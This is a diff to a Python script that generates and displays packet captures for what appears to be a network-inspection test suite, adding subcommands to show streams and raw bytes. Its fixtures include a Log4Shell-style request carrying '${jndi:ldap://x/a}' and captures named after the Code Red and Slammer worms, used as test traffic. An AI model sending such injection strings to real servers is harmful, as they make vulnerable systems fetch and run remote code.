@@ -4,6 +4,8 @@
 
 	pcap.py write DIR	write the captures that the tests replay
 	pcap.py show FILE	one line per frame, and what is wrong with it
+	pcap.py streams FILE	only the streams, and frames with something wrong
+	pcap.py bytes FILE	the frames as hexadecimal digits
 
 What show prints is compared with golden files: addresses are left out, numbers are
 relative to the first ones, checksums and lengths are checked and only mentioned when
@@ -149,8 +151,7 @@ def resent():
 
 
 def grown():
-    """More ${ than a segment has room for once they have grown is not to be had in the
-    library; a segment of the size of the MSS with an edit in it is."""
+    """An edit in a segment of the size of the MSS."""
     body = b'GET /?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a\r\nX: ' + b'y' * 1400 + b'\r\n\r\n'
     return web(body)
 
@@ -206,6 +207,8 @@ def captures(where):
     put('codered-ng', web(RED), ng=True)
     put('resent', resent())
     put('grown', grown())
+    put('post', web(b'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1500\r\n\r\n' + b'p' * 1500,
+                    PLAIN, size=400))
     put('two', web(RED) + web(PLAIN, start=1))
     put('midstream', midstream())
     put('slammer', slammer())
@@ -302,7 +305,7 @@ def describe(link, frame, size, base):
     return tags + text.replace('  ', ' ') + wrong, key, seq, data
 
 
-def show(path):
+def show(path, brief=False):
     base, streams = {}, {}
     for link, frame, size in frames(path):
         d = describe(link, frame, size, base)
@@ -310,7 +313,8 @@ def show(path):
             print(d)
             continue
         text, key, seq, data = d
-        print(text)
+        if not brief or 'BAD' in text:
+            print(text)
         at = (seq - base[key] - 1) & 0xffffffff
         if at < 1 << 31 and data:
             s = streams.setdefault(key, {})
@@ -329,5 +333,10 @@ if __name__ == '__main__':
         captures(sys.argv[2])
     elif len(sys.argv) == 3 and sys.argv[1] == 'show':
         show(sys.argv[2])
+    elif len(sys.argv) == 3 and sys.argv[1] == 'streams':
+        show(sys.argv[2], brief=True)
+    elif len(sys.argv) == 3 and sys.argv[1] == 'bytes':
+        for _, frame, size in frames(sys.argv[2]):
+            print(size, frame.hex())
     else:
         sys.exit(__doc__)
